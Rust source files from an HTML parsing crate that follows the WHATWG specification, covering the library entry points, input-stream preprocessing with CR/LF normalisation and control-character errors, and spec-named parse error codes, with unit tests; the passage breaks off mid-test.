//!    Implemented as a zero-copy streaming cursor ([`preprocess::InputStream`])
//!    the tokenizer pulls from; no intermediate `Vec<char>` is built.
//! 3. **Tokenizer** ([`tokenizer`]) — the §13.2.5 state machine, emitting
//!    [`tokenizer::Token`]s *and* structured [`ParseError`]s instead of
//!    silently recovering. This is the crate's reason to exist: browsers
//!    implement the same machine but discard the error states; the paper's
//!    checkers are built directly on those error states. Hot states take
//!    SWAR-batched fast paths ([`scan`]); [`tokenize_scalar`] runs the pure
//!    per-character spec machine, and property tests pin the two to be
//!    observationally identical.
//! 4. **Tree builder** ([`tree_builder`]) — the §13.2.6 insertion-mode state
//!    machine constructing a [`dom::Document`], including the error-tolerance
//!    behaviours the paper's violations exploit: implied tags, foster
//!    parenting (HF4), the form element pointer (DE4), body attribute merging
//!    (HF3), head relocation (HF1/HF2), and SVG/MathML foreign content with
//!    integration points and breakout (HF5, the Figure-1 mXSS).
//! 5. **Serializer** ([`serializer`]) — §13.3 HTML fragment serialization,
//!    used by the paper's proposed automatic fix ("serializing the entire
//!    document with the current HTML parser and deserializing it again",
//!    §4.4) and by the mXSS round-trip demonstrations.
//!
//! The easiest entry point is [`parse_document`]:
//!
//! ```
//! let doc = spec_html::parse_document("<p>Hello <b>world");
//! let html = spec_html::serializer::serialize(&doc.dom);
//! assert!(html.contains("<b>world</b>"));
//! ```
//!
//! [HTML Living Standard §13.2]: https://html.spec.whatwg.org/multipage/parsing.html

pub mod atoms;
pub mod decoder;
pub mod dom;
pub mod entities;
pub mod errors;
pub mod preprocess;
pub mod scan;
pub mod serializer;
pub mod tags;
pub mod tokenizer;
pub mod tree_builder;

pub use atoms::{Atom, SharedStr};
pub use dom::{Document as Dom, Namespace, NodeData, NodeId};
pub use errors::{ErrorCode, ParseError};
pub use tree_builder::{
    fragment_children, parse_fragment, parse_fragment_with_sink, ParseOutput, TagSink, TreeEvent,
    TreeEventKind,
};

/// Parse a complete HTML document the way a browser would, recording every
/// specification violation (tokenizer parse errors and tree-construction
/// events) along the way.
///
/// The input must already be decoded text; use [`decoder::decode_utf8`] to go
/// from bytes to text with the study's UTF-8 policy.
pub fn parse_document(input: &str) -> ParseOutput {
    tree_builder::parse(input)
}

/// [`parse_document`] with a [`TagSink`] observing every start tag as it
/// streams off the tokenizer. The parser retains no token stream of its
/// own, so callers that inspect raw attribute values (e.g. the violation
/// checkers) collect exactly the tags they need here instead of paying for
/// a clone of every tag.
pub fn parse_document_with(input: &str, sink: TagSink<'_>) -> ParseOutput {
    tree_builder::parse_with_sink(input, sink)
}

/// Tokenize without tree construction; returns the token stream and the
/// tokenizer-level parse errors. Tag-feedback-sensitive states (RCDATA for
/// `<textarea>`/`<title>`, RAWTEXT for `<style>` etc., script data) are
/// driven by a minimal built-in feedback rule equivalent to what the tree
/// builder would do for well-nested documents.
pub fn tokenize(input: &str) -> (Vec<tokenizer::Token>, Vec<ParseError>) {
    drive_tokenizer(tokenizer::Tokenizer::new(input))
}

/// [`tokenize`] with the batched input-stream fast paths disabled: every
/// character goes through the per-state scalar machine. Exists so tests can
/// assert the batched and scalar paths are observationally identical; the
/// output contract is exactly that of [`tokenize`].
pub fn tokenize_scalar(input: &str) -> (Vec<tokenizer::Token>, Vec<ParseError>) {
    drive_tokenizer(tokenizer::Tokenizer::new_scalar(input))
}

fn drive_tokenizer(mut tok: tokenizer::Tokenizer<'_>) -> (Vec<tokenizer::Token>, Vec<ParseError>) {
    let mut tokens = Vec::new();
    loop {
        let t = tok.next_token();
        let done = matches!(t, tokenizer::Token::Eof);
        // Standalone tokenization applies the spec's tag-name feedback so
        // that `<style>`/`<textarea>`/`<script>` content is not mis-lexed.
        if let tokenizer::Token::StartTag(ref tag) = t {
            tok.apply_default_feedback(&tag.name);
        }
        tokens.push(t);
        if done {
            break;
        }
    }
    // Preprocessing errors come first, as when preprocessing was a separate
    // eager pass; EOF implies the stream (and thus the error list) is
    // complete.
    let mut errors = tok.take_preprocess_errors();
    errors.extend(tok.take_errors());
    (tokens, errors)
}

#[cfg(test)]
mod smoke_tests {
    use super::*;

    #[test]
    fn parse_and_serialize_roundtrip() {
        let doc = parse_document(
            "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
        );
        let out = serializer::serialize(&doc.dom);
        assert!(out.contains("<title>t</title>"));
        assert!(out.contains("<p>x</p>"));
    }

    #[test]
    fn tokenize_reports_errors() {
        let (_, errs) = tokenize("<img/src=x>");
        assert!(errs.iter().any(|e| e.code == ErrorCode::UnexpectedSolidusInTag));
    }
}
