//! Input stream preprocessing (§13.2.3.5).
//!
//! The paper (§2.1): "the Input Stream Preprocessor normalizes this stream.
//! For instance, it replaces all CR characters with LF characters as CR is
//! not allowed in HTML." This module performs exactly the normalization the
//! specification requires — CRLF and bare CR become LF — and reports the
//! control-character and noncharacter parse errors of §13.2.3.5.
//!
//! Two implementations live here:
//!
//! * [`InputStream`] — the production path: a zero-copy cursor over the
//!   decoded `&str` that normalizes and reports errors *on the fly* as the
//!   tokenizer pulls characters, and hands out borrowed sub-slices for the
//!   tokenizer's batched fast paths. No `Vec<char>` is ever materialized.
//! * [`preprocess`] — the original eager implementation, kept as the scalar
//!   reference: tests assert that draining an [`InputStream`] yields exactly
//!   the characters and errors `preprocess` produces.
//!
//! Error offsets are *character indices into the normalized stream* (CRLF
//! counts as one character), which is what every consumer downstream — the
//! tokenizer, the tree builder, the checkers — keys on. [`InputStream`]
//! therefore tracks the character position alongside the byte position.

use crate::errors::{ErrorCode, ParseError};
use crate::scan;

/// A preprocessed input stream: normalized characters plus the preprocessing
/// parse errors, with offsets into the *normalized* stream.
#[derive(Debug, Clone)]
pub struct Preprocessed {
    pub chars: Vec<char>,
    pub errors: Vec<ParseError>,
}

/// Normalize newlines and surface control/noncharacter parse errors.
///
/// Scalar reference implementation; the parser itself streams through
/// [`InputStream`] instead of materializing the character vector.
pub fn preprocess(input: &str) -> Preprocessed {
    let mut chars = Vec::with_capacity(input.len());
    let mut errors = Vec::new();
    let mut iter = input.chars().peekable();
    while let Some(c) = iter.next() {
        let out = if c == '\r' {
            if iter.peek() == Some(&'\n') {
                iter.next();
            }
            '\n'
        } else {
            c
        };
        if is_control_error(out) {
            errors.push(ParseError::new(ErrorCode::ControlCharacterInInputStream, chars.len()));
        } else if is_noncharacter(out) {
            errors.push(ParseError::new(ErrorCode::NoncharacterInInputStream, chars.len()));
        }
        chars.push(out);
    }
    Preprocessed { chars, errors }
}

/// A zero-copy preprocessing cursor over the decoded document.
///
/// Yields the same normalized character sequence and parse errors as
/// [`preprocess`], but lazily: characters come out of [`InputStream::next`]
/// one at a time (with CRLF/CR → LF rewriting), and errors accumulate as the
/// cursor passes the offending characters. Because the tokenizer re-reads
/// characters (its "reconsume" moves), a high-water mark ensures each error
/// is reported exactly once even when the cursor steps back with
/// [`InputStream::un_next`].
///
/// For the tokenizer's batch fast paths, [`InputStream::take_plain_run`]
/// returns the longest borrowed `&str` run of characters that need neither
/// normalization, nor error reporting, nor state-machine attention.
pub struct InputStream<'a> {
    src: &'a str,
    /// Byte offset of the cursor into `src`.
    byte: usize,
    /// Normalized characters consumed so far; error offsets use this.
    chars: usize,
    /// Source bytes consumed by the most recent [`Self::next`] (2 for CRLF);
    /// 0 when stepping back is not legal (start, after a bulk advance).
    last_width: usize,
    /// Bytes below this offset have already had their errors reported;
    /// re-reads after `un_next` must not report twice.
    reported: usize,
    errors: Vec<ParseError>,
}

impl<'a> InputStream<'a> {
    pub fn new(src: &'a str) -> Self {
        InputStream { src, byte: 0, chars: 0, last_width: 0, reported: 0, errors: Vec::new() }
    }

    /// Consume one normalized character, reporting its preprocessing error
    /// (if any, and if not already reported on an earlier pass).
    ///
    /// Deliberately named like `Iterator::next`, but this is a cursor, not
    /// an iterator: it supports stepping back ([`Self::un_next`]) and bulk
    /// consumption ([`Self::take_plain_run`]), which `Iterator` cannot model.
    #[allow(clippy::should_implement_trait)]
    #[inline]
    pub fn next(&mut self) -> Option<char> {
        let rest = &self.src[self.byte..];
        let c = rest.chars().next()?;
        let (out, width) = if c == '\r' {
            ('\n', if rest.as_bytes().get(1) == Some(&b'\n') { 2 } else { 1 })
        } else {
            (c, c.len_utf8())
        };
        if self.byte >= self.reported {
            if is_control_error(out) {
                self.errors
                    .push(ParseError::new(ErrorCode::ControlCharacterInInputStream, self.chars));
            } else if is_noncharacter(out) {
                self.errors.push(ParseError::new(ErrorCode::NoncharacterInInputStream, self.chars));
            }
            self.reported = self.byte + width;
        }
        self.byte += width;
        self.chars += 1;
        self.last_width = width;
        Some(out)
    }

    /// Step back over the character the last [`Self::next`] consumed (the
    /// tokenizer's "reconsume"). Only one step back is legal between
    /// consumes; the width bookkeeping makes a second one a debug panic.
    #[inline]
    pub fn un_next(&mut self) {
        debug_assert!(self.last_width > 0, "un_next without a preceding next");
        self.byte -= self.last_width;
        self.chars -= 1;
        self.last_width = 0;
    }

    /// Normalized characters consumed so far — the tokenizer's notion of
    /// "position", and the unit of every error offset.
    #[inline]
    pub fn chars_consumed(&self) -> usize {
        self.chars
    }

    /// Byte offset of the cursor into the source.
    #[inline]
    pub fn byte_pos(&self) -> usize {
        self.byte
    }

    /// The unconsumed remainder of the source, raw (not normalized).
    #[inline]
    pub fn rest(&self) -> &'a str {
        &self.src[self.byte..]
    }

    /// A raw sub-slice of the source by byte offsets. Callers use this for
    /// character-reference spans, which are provably ASCII and CR-free, so
    /// raw bytes and normalized characters coincide.
    #[inline]
    pub fn slice(&self, from: usize, to: usize) -> &'a str {
        &self.src[from..to]
    }

    /// Bulk-advance over `n` bytes the caller has already inspected and
    /// knows to be plain ASCII without CR (lookahead matches like `--`,
    /// `doctype`, entity names). Such bytes can never carry preprocessing
    /// errors, so only the positions move.
    #[inline]
    pub fn advance_ascii(&mut self, n: usize) {
        debug_assert!(self.src.as_bytes()[self.byte..self.byte + n]
            .iter()
            .all(|&b| b.is_ascii() && b != b'\r'));
        self.byte += n;
        self.chars += n;
        self.reported = self.reported.max(self.byte);
        self.last_width = 0;
    }

    /// Consume and return the longest prefix run of *plain* characters:
    /// printable ASCII plus TAB/LF/FF, excluding the caller's delimiter
    /// bytes (see [`scan::plain_prefix_len`]). Plain characters need no
    /// normalization and can never carry preprocessing errors, so the run
    /// is returned as a borrowed slice of the source and appended wholesale
    /// by the tokenizer. Returns `""` when the next character needs the
    /// scalar path.
    #[inline]
    pub fn take_plain_run(&mut self, delims: &[u8]) -> &'a str {
        let n = scan::plain_prefix_len(&self.src.as_bytes()[self.byte..], delims);
        self.advance_run(n)
    }

    /// Consume and return the longest batchable run for the TagName state
    /// (see [`scan::tag_name_prefix_len`]). Like plain runs, name-like runs
    /// are printable ASCII: error-free, normalization-free, one byte per
    /// character.
    #[inline]
    pub fn take_tag_name_run(&mut self) -> &'a str {
        let n = scan::tag_name_prefix_len(&self.src.as_bytes()[self.byte..]);
        self.advance_run(n)
    }

    /// Consume and return the longest batchable run for the AttributeName
    /// state (see [`scan::attr_name_prefix_len`]).
    #[inline]
    pub fn take_attr_name_run(&mut self) -> &'a str {
        let n = scan::attr_name_prefix_len(&self.src.as_bytes()[self.byte..]);
        self.advance_run(n)
    }

    /// Consume and return the longest batchable run for the unquoted
    /// AttributeValue state (see [`scan::unquoted_value_prefix_len`]).
    #[inline]
    pub fn take_unquoted_value_run(&mut self) -> &'a str {
        let n = scan::unquoted_value_prefix_len(&self.src.as_bytes()[self.byte..]);
        self.advance_run(n)
    }

    /// Peek the next raw byte without consuming it.
    #[inline]
    pub fn peek_byte(&self) -> Option<u8> {
        self.src.as_bytes().get(self.byte).copied()
    }

    /// Consume the next character iff it is exactly the ASCII byte `b`.
    /// Callers pass printable-ASCII bytes (never CR), so the consumed
    /// character is one byte wide, needs no normalization, and can carry no
    /// preprocessing error. Returns whether the byte was consumed — the
    /// fused state-transition primitive of the batched tokenizer paths.
    #[inline]
    pub fn eat_byte(&mut self, b: u8) -> bool {
        debug_assert!(b.is_ascii() && b != b'\r');
        if self.src.as_bytes().get(self.byte) == Some(&b) {
            self.byte += 1;
            self.chars += 1;
            self.reported = self.reported.max(self.byte);
            self.last_width = 0;
            true
        } else {
            false
        }
    }

    /// Shared tail of the batch-run takers: advance over `n` bytes known to
    /// be printable ASCII and return them.
    #[inline]
    fn advance_run(&mut self, n: usize) -> &'a str {
        let run = &self.src[self.byte..self.byte + n];
        if n > 0 {
            // Every batched byte is a one-byte character, so chars advance
            // in lockstep with bytes.
            self.byte += n;
            self.chars += n;
            self.reported = self.reported.max(self.byte);
            self.last_width = 0;
        }
        run
    }

    /// Drain the preprocessing errors reported so far. Complete once the
    /// stream has been fully consumed (which emitting an EOF token implies).
    pub fn take_errors(&mut self) -> Vec<ParseError> {
        std::mem::take(&mut self.errors)
    }
}

/// Control characters that are parse errors in the input stream: C0 controls
/// other than NUL (handled by the tokenizer), tab, LF, FF; and C1 controls.
/// Space is of course allowed.
fn is_control_error(c: char) -> bool {
    let v = c as u32;
    let c0 = v < 0x20 && !matches!(c, '\t' | '\n' | '\u{C}' | '\0');
    let del_c1 = (0x7F..=0x9F).contains(&v);
    c0 || del_c1
}

/// Noncharacters per the Infra standard.
fn is_noncharacter(c: char) -> bool {
    let v = c as u32;
    (0xFDD0..=0xFDEF).contains(&v) || (v & 0xFFFE) == 0xFFFE
}

#[cfg(test)]
mod tests {
    use super::*;

    fn norm(s: &str) -> String {
        preprocess(s).chars.into_iter().collect()
    }

    /// Drain an [`InputStream`] char-at-a-time.
    fn drain(s: &str) -> (String, Vec<ParseError>) {
        let mut stream = InputStream::new(s);
        let mut out = String::new();
        while let Some(c) = stream.next() {
            out.push(c);
        }
        (out, stream.take_errors())
    }

    #[test]
    fn crlf_becomes_lf() {
        assert_eq!(norm("a\r\nb"), "a\nb");
    }

    #[test]
    fn bare_cr_becomes_lf() {
        assert_eq!(norm("a\rb"), "a\nb");
    }

    #[test]
    fn cr_cr_lf_becomes_two_lf() {
        assert_eq!(norm("a\r\r\nb"), "a\n\nb");
    }

    #[test]
    fn plain_text_untouched() {
        assert_eq!(norm("hello\tworld\n"), "hello\tworld\n");
    }

    #[test]
    fn control_character_reported() {
        let p = preprocess("a\u{1}b");
        assert_eq!(p.errors.len(), 1);
        assert_eq!(p.errors[0].code, ErrorCode::ControlCharacterInInputStream);
        assert_eq!(p.errors[0].offset, 1);
    }

    #[test]
    fn noncharacter_reported() {
        let p = preprocess("x\u{FDD0}");
        assert_eq!(p.errors[0].code, ErrorCode::NoncharacterInInputStream);
    }

    #[test]
    fn tab_lf_ff_are_fine() {
        assert!(preprocess("\t\n\u{C} ").errors.is_empty());
    }

    #[test]
    fn nul_is_left_for_tokenizer() {
        // NUL is handled state-dependently by the tokenizer, not here.
        let p = preprocess("\0");
        assert!(p.errors.is_empty());
        assert_eq!(p.chars, vec!['\0']);
    }

    #[test]
    fn stream_matches_reference_on_mixed_input() {
        for s in [
            "",
            "plain ascii",
            "a\r\nb\rc\n\r\r\nd",
            "gr\u{fc}\u{df}e 漢字 \u{1} \u{FDD0} \u{0} tail",
            "\r",
            "\r\n",
            "x\u{9d}y", // C1 control (multi-byte in UTF-8)
        ] {
            let reference = preprocess(s);
            let (chars, errors) = drain(s);
            let ref_chars: String = reference.chars.iter().collect();
            assert_eq!(chars, ref_chars, "chars diverged on {s:?}");
            assert_eq!(errors, reference.errors, "errors diverged on {s:?}");
        }
    }

    #[test]
    fn stream_positions_track_bytes_and_chars_independently() {
        let mut s = InputStream::new("ü\r\nx");
        assert_eq!(s.next(), Some('ü'));
        assert_eq!((s.byte_pos(), s.chars_consumed()), (2, 1));
        assert_eq!(s.next(), Some('\n')); // CRLF: two bytes, one char
        assert_eq!((s.byte_pos(), s.chars_consumed()), (4, 2));
        assert_eq!(s.next(), Some('x'));
        assert_eq!((s.byte_pos(), s.chars_consumed()), (5, 3));
        assert_eq!(s.next(), None);
    }

    #[test]
    fn un_next_rereads_without_duplicate_errors() {
        let mut s = InputStream::new("a\u{1}\r\nb");
        assert_eq!(s.next(), Some('a'));
        assert_eq!(s.next(), Some('\u{1}'));
        s.un_next();
        assert_eq!(s.next(), Some('\u{1}')); // re-read: no second report
        assert_eq!(s.next(), Some('\n'));
        s.un_next(); // step back over the two-byte CRLF
        assert_eq!(s.next(), Some('\n'));
        assert_eq!(s.next(), Some('b'));
        assert_eq!(s.next(), None);
        let errors = s.take_errors();
        assert_eq!(errors.len(), 1);
        assert_eq!(errors[0], ParseError::new(ErrorCode::ControlCharacterInInputStream, 1));
    }

    #[test]
    fn plain_run_stops_at_delimiters_and_unsafe_bytes() {
        let mut s = InputStream::new("hello<world");
        assert_eq!(s.take_plain_run(b"<&"), "hello");
        assert_eq!(s.next(), Some('<'));
        assert_eq!(s.take_plain_run(b"<&"), "world");
        assert_eq!(s.take_plain_run(b"<&"), "");
        assert_eq!(s.next(), None);

        // CR, NUL, controls, and non-ASCII all end a run for the scalar path.
        for src in ["ab\rc", "ab\0c", "ab\u{1}c", "abüc"] {
            let mut s = InputStream::new(src);
            assert_eq!(s.take_plain_run(&[]), "ab", "on {src:?}");
        }
    }

    #[test]
    fn interleaved_runs_and_scalar_reads_stay_consistent() {
        let mut s = InputStream::new("one&two\r\nthree\u{1}four");
        let mut out = String::new();
        let mut steps = 0;
        loop {
            let run = s.take_plain_run(b"&");
            out.push_str(run);
            match s.next() {
                Some(c) => out.push(c),
                None => break,
            }
            steps += 1;
            assert!(steps < 100);
        }
        assert_eq!(out, "one&two\nthree\u{1}four");
        let reference = preprocess("one&two\r\nthree\u{1}four");
        assert_eq!(s.take_errors(), reference.errors);
    }
}
