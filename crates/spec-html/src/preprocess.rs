//! Input stream preprocessing (§13.2.3.5).
//!
//! The paper (§2.1): "the Input Stream Preprocessor normalizes this stream.
//! For instance, it replaces all CR characters with LF characters as CR is
//! not allowed in HTML." This module performs exactly the normalization the
//! specification requires — CRLF and bare CR become LF — and reports the
//! control-character and noncharacter parse errors of §13.2.3.5.

use crate::errors::{ErrorCode, ParseError};

/// A preprocessed input stream: normalized characters plus the preprocessing
/// parse errors, with offsets into the *normalized* stream.
#[derive(Debug, Clone)]
pub struct Preprocessed {
    pub chars: Vec<char>,
    pub errors: Vec<ParseError>,
}

/// Normalize newlines and surface control/noncharacter parse errors.
pub fn preprocess(input: &str) -> Preprocessed {
    let mut chars = Vec::with_capacity(input.len());
    let mut errors = Vec::new();
    let mut iter = input.chars().peekable();
    while let Some(c) = iter.next() {
        let out = if c == '\r' {
            if iter.peek() == Some(&'\n') {
                iter.next();
            }
            '\n'
        } else {
            c
        };
        if is_control_error(out) {
            errors.push(ParseError::new(ErrorCode::ControlCharacterInInputStream, chars.len()));
        } else if is_noncharacter(out) {
            errors.push(ParseError::new(ErrorCode::NoncharacterInInputStream, chars.len()));
        }
        chars.push(out);
    }
    Preprocessed { chars, errors }
}

/// Control characters that are parse errors in the input stream: C0 controls
/// other than NUL (handled by the tokenizer), tab, LF, FF; and C1 controls.
/// Space is of course allowed.
fn is_control_error(c: char) -> bool {
    let v = c as u32;
    let c0 = v < 0x20 && !matches!(c, '\t' | '\n' | '\u{C}' | '\0');
    let del_c1 = (0x7F..=0x9F).contains(&v);
    c0 || del_c1
}

/// Noncharacters per the Infra standard.
fn is_noncharacter(c: char) -> bool {
    let v = c as u32;
    (0xFDD0..=0xFDEF).contains(&v) || (v & 0xFFFE) == 0xFFFE
}

#[cfg(test)]
mod tests {
    use super::*;

    fn norm(s: &str) -> String {
        preprocess(s).chars.into_iter().collect()
    }

    #[test]
    fn crlf_becomes_lf() {
        assert_eq!(norm("a\r\nb"), "a\nb");
    }

    #[test]
    fn bare_cr_becomes_lf() {
        assert_eq!(norm("a\rb"), "a\nb");
    }

    #[test]
    fn cr_cr_lf_becomes_two_lf() {
        assert_eq!(norm("a\r\r\nb"), "a\n\nb");
    }

    #[test]
    fn plain_text_untouched() {
        assert_eq!(norm("hello\tworld\n"), "hello\tworld\n");
    }

    #[test]
    fn control_character_reported() {
        let p = preprocess("a\u{1}b");
        assert_eq!(p.errors.len(), 1);
        assert_eq!(p.errors[0].code, ErrorCode::ControlCharacterInInputStream);
        assert_eq!(p.errors[0].offset, 1);
    }

    #[test]
    fn noncharacter_reported() {
        let p = preprocess("x\u{FDD0}");
        assert_eq!(p.errors[0].code, ErrorCode::NoncharacterInInputStream);
    }

    #[test]
    fn tab_lf_ff_are_fine() {
        assert!(preprocess("\t\n\u{C} ").errors.is_empty());
    }

    #[test]
    fn nul_is_left_for_tokenizer() {
        // NUL is handled state-dependently by the tokenizer, not here.
        let p = preprocess("\0");
        assert!(p.errors.is_empty());
        assert_eq!(p.chars, vec!['\0']);
    }
}
