//! Structured parse errors.
//!
//! The WHATWG specification names every error state of the tokenizer (§13.2.5
//! lists them as `unexpected-solidus-in-tag`, `duplicate-attribute`, …) but
//! requires conforming parsers to *recover* from all of them — the "error
//! tolerance" the paper studies. This module gives those error states a
//! first-class representation so downstream checkers can build on them
//! instead of re-deriving them from raw text.

use std::fmt;

/// A spec-named parse error code.
///
/// The set covers every tokenizer error the violation checkers depend on
/// (FB1, FB2, DM3, the DE3 family) plus the surrounding error family needed
/// for faithful recovery behaviour. Names follow the specification's
/// kebab-case identifiers, camel-cased.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
#[non_exhaustive]
pub enum ErrorCode {
    // --- preprocessing (§13.2.3) ---
    /// A control character (other than tab/LF/FF/CR/space) in the input stream.
    ControlCharacterInInputStream,
    /// A noncharacter code point (U+FDD0..U+FDEF, U+xFFFE/U+xFFFF) in the input.
    NoncharacterInInputStream,
    /// A lone surrogate reached the input stream (cannot occur for UTF-8 input).
    SurrogateInInputStream,

    // --- tokenizer: tags and attributes (§13.2.5) ---
    /// `<` followed by `?` — an XML-style processing instruction.
    UnexpectedQuestionMarkInsteadOfTagName,
    /// `</>` — an end tag with no name.
    MissingEndTagName,
    /// `<` followed by a character that cannot begin a tag name.
    InvalidFirstCharacterOfTagName,
    /// EOF hit inside a tag.
    EofInTag,
    /// EOF hit before a tag name was seen.
    EofBeforeTagName,
    /// `/` inside a tag where an attribute was expected (FB1's error state).
    UnexpectedSolidusInTag,
    /// Two attributes not separated by whitespace (FB2's error state).
    MissingWhitespaceBetweenAttributes,
    /// `"`, `'` or `<` inside an attribute name.
    UnexpectedCharacterInAttributeName,
    /// An attribute name that already exists on the tag (DM3's error state).
    DuplicateAttribute,
    /// `=` before an attribute name.
    UnexpectedEqualsSignBeforeAttributeName,
    /// Attribute value omitted: `=` directly followed by `>`.
    MissingAttributeValue,
    /// `"`, `'`, `<`, `=` or `` ` `` in an unquoted attribute value.
    UnexpectedCharacterInUnquotedAttributeValue,
    /// End tags cannot carry attributes.
    EndTagWithAttributes,
    /// End tags cannot be self-closing (`</p/>`).
    EndTagWithTrailingSolidus,
    /// A NUL character where character data was expected.
    UnexpectedNullCharacter,
    /// Self-closing syntax (`/>`) on a non-void HTML element.
    NonVoidHtmlElementStartTagWithTrailingSolidus,

    // --- tokenizer: comments ---
    /// `<!` not followed by `--`, `DOCTYPE` or `[CDATA[`.
    IncorrectlyOpenedComment,
    /// `<!-->` — a comment closed immediately.
    AbruptClosingOfEmptyComment,
    /// EOF inside a comment.
    EofInComment,
    /// `<!--` seen inside a comment.
    NestedComment,
    /// `--!>` used to close a comment.
    IncorrectlyClosedComment,

    // --- tokenizer: DOCTYPE ---
    /// EOF inside a DOCTYPE.
    EofInDoctype,
    /// Whitespace missing before a DOCTYPE name.
    MissingWhitespaceBeforeDoctypeName,
    /// `<!DOCTYPE>` with no name.
    MissingDoctypeName,
    /// Anything malformed after the DOCTYPE name.
    InvalidCharacterSequenceAfterDoctypeName,
    /// Missing quote conventions around public/system identifiers.
    MissingDoctypePublicIdentifier,
    MissingDoctypeSystemIdentifier,
    MissingQuoteBeforeDoctypePublicIdentifier,
    MissingQuoteBeforeDoctypeSystemIdentifier,
    MissingWhitespaceAfterDoctypePublicKeyword,
    MissingWhitespaceAfterDoctypeSystemKeyword,
    MissingWhitespaceBetweenDoctypePublicAndSystemIdentifiers,
    AbruptDoctypePublicIdentifier,
    AbruptDoctypeSystemIdentifier,
    UnexpectedCharacterAfterDoctypeSystemIdentifier,

    // --- tokenizer: CDATA ---
    /// `<![CDATA[` outside foreign content.
    CdataInHtmlContent,
    /// EOF inside a CDATA section.
    EofInCdata,

    // --- tokenizer: character references ---
    /// `&name` without the terminating `;`.
    MissingSemicolonAfterCharacterReference,
    /// `&#` with no digits.
    AbsenceOfDigitsInNumericCharacterReference,
    /// `&#...` without `;`.
    MissingSemicolonAfterNumericCharacterReference,
    /// `&#0;`.
    NullCharacterReference,
    /// Numeric reference above U+10FFFF.
    CharacterReferenceOutsideUnicodeRange,
    /// Numeric reference to a surrogate.
    SurrogateCharacterReference,
    /// Numeric reference to a noncharacter.
    NoncharacterCharacterReference,
    /// Numeric reference to a control character.
    ControlCharacterReference,
    /// `&x;` where `x` is not a known named reference.
    UnknownNamedCharacterReference,

    // --- tokenizer: script data / RCDATA / RAWTEXT ---
    /// EOF inside `<script>` HTML-comment-like content.
    EofInScriptHtmlCommentLikeText,

    // --- tree construction (§13.2.6) ---
    /// Any tree-construction-level parse error; the structured detail lives
    /// in [`crate::tree_builder::TreeEvent`].
    TreeConstruction,
}

impl ErrorCode {
    /// The specification's kebab-case identifier for this error, e.g.
    /// `"unexpected-solidus-in-tag"`.
    pub fn spec_id(self) -> &'static str {
        use ErrorCode::*;
        match self {
            ControlCharacterInInputStream => "control-character-in-input-stream",
            NoncharacterInInputStream => "noncharacter-in-input-stream",
            SurrogateInInputStream => "surrogate-in-input-stream",
            UnexpectedQuestionMarkInsteadOfTagName => {
                "unexpected-question-mark-instead-of-tag-name"
            }
            MissingEndTagName => "missing-end-tag-name",
            InvalidFirstCharacterOfTagName => "invalid-first-character-of-tag-name",
            EofInTag => "eof-in-tag",
            EofBeforeTagName => "eof-before-tag-name",
            UnexpectedSolidusInTag => "unexpected-solidus-in-tag",
            MissingWhitespaceBetweenAttributes => "missing-whitespace-between-attributes",
            UnexpectedCharacterInAttributeName => "unexpected-character-in-attribute-name",
            DuplicateAttribute => "duplicate-attribute",
            UnexpectedEqualsSignBeforeAttributeName => {
                "unexpected-equals-sign-before-attribute-name"
            }
            MissingAttributeValue => "missing-attribute-value",
            UnexpectedCharacterInUnquotedAttributeValue => {
                "unexpected-character-in-unquoted-attribute-value"
            }
            EndTagWithAttributes => "end-tag-with-attributes",
            EndTagWithTrailingSolidus => "end-tag-with-trailing-solidus",
            UnexpectedNullCharacter => "unexpected-null-character",
            NonVoidHtmlElementStartTagWithTrailingSolidus => {
                "non-void-html-element-start-tag-with-trailing-solidus"
            }
            IncorrectlyOpenedComment => "incorrectly-opened-comment",
            AbruptClosingOfEmptyComment => "abrupt-closing-of-empty-comment",
            EofInComment => "eof-in-comment",
            NestedComment => "nested-comment",
            IncorrectlyClosedComment => "incorrectly-closed-comment",
            EofInDoctype => "eof-in-doctype",
            MissingWhitespaceBeforeDoctypeName => "missing-whitespace-before-doctype-name",
            MissingDoctypeName => "missing-doctype-name",
            InvalidCharacterSequenceAfterDoctypeName => {
                "invalid-character-sequence-after-doctype-name"
            }
            MissingDoctypePublicIdentifier => "missing-doctype-public-identifier",
            MissingDoctypeSystemIdentifier => "missing-doctype-system-identifier",
            MissingQuoteBeforeDoctypePublicIdentifier => {
                "missing-quote-before-doctype-public-identifier"
            }
            MissingQuoteBeforeDoctypeSystemIdentifier => {
                "missing-quote-before-doctype-system-identifier"
            }
            MissingWhitespaceAfterDoctypePublicKeyword => {
                "missing-whitespace-after-doctype-public-keyword"
            }
            MissingWhitespaceAfterDoctypeSystemKeyword => {
                "missing-whitespace-after-doctype-system-keyword"
            }
            MissingWhitespaceBetweenDoctypePublicAndSystemIdentifiers => {
                "missing-whitespace-between-doctype-public-and-system-identifiers"
            }
            AbruptDoctypePublicIdentifier => "abrupt-doctype-public-identifier",
            AbruptDoctypeSystemIdentifier => "abrupt-doctype-system-identifier",
            UnexpectedCharacterAfterDoctypeSystemIdentifier => {
                "unexpected-character-after-doctype-system-identifier"
            }
            CdataInHtmlContent => "cdata-in-html-content",
            EofInCdata => "eof-in-cdata",
            MissingSemicolonAfterCharacterReference => {
                "missing-semicolon-after-character-reference"
            }
            AbsenceOfDigitsInNumericCharacterReference => {
                "absence-of-digits-in-numeric-character-reference"
            }
            MissingSemicolonAfterNumericCharacterReference => {
                "missing-semicolon-after-numeric-character-reference"
            }
            NullCharacterReference => "null-character-reference",
            CharacterReferenceOutsideUnicodeRange => "character-reference-outside-unicode-range",
            SurrogateCharacterReference => "surrogate-character-reference",
            NoncharacterCharacterReference => "noncharacter-character-reference",
            ControlCharacterReference => "control-character-reference",
            UnknownNamedCharacterReference => "unknown-named-character-reference",
            EofInScriptHtmlCommentLikeText => "eof-in-script-html-comment-like-text",
            TreeConstruction => "tree-construction",
        }
    }
}

impl fmt::Display for ErrorCode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.spec_id())
    }
}

/// A parse error with the character offset (into the preprocessed input
/// stream) at which the parser entered the error state.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ParseError {
    pub code: ErrorCode,
    /// Offset in characters into the preprocessed input stream.
    pub offset: usize,
}

impl ParseError {
    pub fn new(code: ErrorCode, offset: usize) -> Self {
        ParseError { code, offset }
    }
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} at {}", self.code, self.offset)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spec_ids_are_kebab_case() {
        for code in [
